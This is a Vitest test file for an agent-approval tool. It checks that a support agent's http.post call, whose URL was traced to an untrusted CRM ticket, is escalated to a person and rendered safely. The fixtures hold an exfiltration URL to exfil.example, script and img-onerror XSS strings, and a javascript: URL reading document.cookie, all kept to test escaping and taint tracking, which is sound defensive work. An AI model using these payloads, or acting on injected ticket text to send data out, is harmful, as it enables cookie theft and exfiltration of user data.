import { describe, expect, it } from 'vitest';
import { provenanceShort } from '../../../src/audit/timeline.ts';
import { describeEntry } from '../../../src/cli/commands/audit.ts';
import { explainProvenance, whyPerson } from '../../../src/provenance/explain.ts';
import type { CallProvenance } from '../../../src/provenance/types.ts';
import type { PendingApprovalView } from '../../../src/web/approvals-backend.ts';
import { callPage } from '../../../src/web/pages.ts';
import type { WebSession } from '../../../src/web/sessions.ts';

const EXFIL = 'https://exfil.example/collect?d=1';
const SCRIPT = '<script>alert(1)</script>';
const JS_URL = 'javascript:alert(document.cookie)';

/** A tainted url whose text and source field are attacker-written markup. */
const provenance: CallProvenance = {
  request: 'verified',
  values: [
    {
      path: 'url',
      token: 'value',
      text: `${EXFIL}"><img src=x onerror=alert(2)>`,
      origin: 'untrusted',
      confidential: false,
      sources: [
        {
          kind: 'output',
          callId: 'read-3',
          tool: 'crm.get_ticket',
          field: `body${SCRIPT}`,
          trust: 'untrusted',
          confidential: false,
          match: 'exact',
        },
      ],
    },
    {
      path: 'customerId',
      token: 'value',
      text: 'c-1002',
      origin: 'trusted',
      confidential: false,
      sources: [{ kind: 'request', trust: 'trusted', match: 'exact' }],
    },
  ],
  tainted: [{ path: 'url', kind: 'url', texts: [JS_URL] }],
  confidential: [],
  verdict: 'escalate',
  reasons: ['provenance: url url "…" comes only from untrusted content (…)'],
};

const item: PendingApprovalView = {
  workflowId: 'run-1',
  callId: 'post-4',
  tool: 'http.post',
  arguments: { url: EXFIL, body: SCRIPT, link: JS_URL },
  risk: 'high',
  reasons: ['policy: http.post needs a person for alice', ...provenance.reasons],
  requester: 'User:alice',
  agent: 'Agent:support-bot',
  requestedAt: new Date(0).toISOString(),
  approvalsSoFar: [],
  quorum: 1,
  provenance,
  request: `Please handle ticket t-504 for customer c-1002 ${SCRIPT}`,
};

const session = {
  identity: { user: { type: 'User', id: 'bob' }, authentication: 'token' },
  csrfToken: 'csrf-1',
} as unknown as WebSession;

describe('informed approvals: provenance in words', () => {
  it('says where each argument came from and whether the request has it', () => {
    const [url, customer] = explainProvenance(provenance, 'User:alice');
    expect(url).toContain('was written in field body');
    expect(url).toContain('of crm.get_ticket (call read-3) — untrusted');
    expect(url).toContain("not in alice's request");
    expect(customer).toBe("customerId `c-1002` is in alice's request");
    const why = whyPerson(item.reasons, provenance);
    expect(why[0]).toBe('policy: http.post needs a person for alice');
    expect(why[1]).toMatch(
      /^tainted: url url `javascript:alert\(document.cookie\)` comes only from untrusted content/,
    );
    expect(why.some((w) => w.startsWith('provenance: '))).toBe(false);
  });

  it('renders crafted arguments, source fields and request inert: no markup of theirs reaches the page', () => {
    const page = callPage({ session, item, now: 1000 });
    // The only script-like text left is escaped; no element or handler of the attacker's survives.
    expect(page).not.toContain('<script>');
    expect(page).not.toContain('<img');
    expect(page).not.toMatch(/href="javascript:/i);
    expect(page).not.toMatch(/<[^>]*onerror/i);
    expect(page).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(page).toContain('body&lt;script&gt;');
    expect(page).toContain('&quot;&gt;&lt;img src=x onerror=alert');
    // What is shown: the request, the provenance lines and why a person decides.
    expect(page).toContain('<blockquote class="request">Please handle ticket t-504');
    expect(page).toContain('verified against the digest signed when the run started');
    expect(page).toContain('<li class="untrusted">url `https://exfil.example/collect?d=1&quot;&gt;');
    expect(page).toContain('<li class="trusted">customerId `c-1002` is in alice&#39;s request</li>');
    expect(page).toContain('Arguments (what you sign)');
  });

  it('warden audit prints the provenance entry in words', () => {
    const line = describeEntry({
      at: '2026-01-01T00:00:00Z',
      kind: 'provenance',
      callId: 'post-4',
      tool: 'http.post',
      verdict: 'escalate',
      request: 'verified',
      why: whyPerson([], provenance),
      values: explainProvenance(provenance, 'alice'),
      short: provenanceShort(provenance),
      decisionSignature: 'verified',
    });
    expect(line).toContain('provenance    ESCALATE http.post#post-4 (request verified)');
    expect(line).toContain('needs a person: tainted: url url');
    expect(line).toContain("customerId `c-1002` is in alice's request");
  });
});
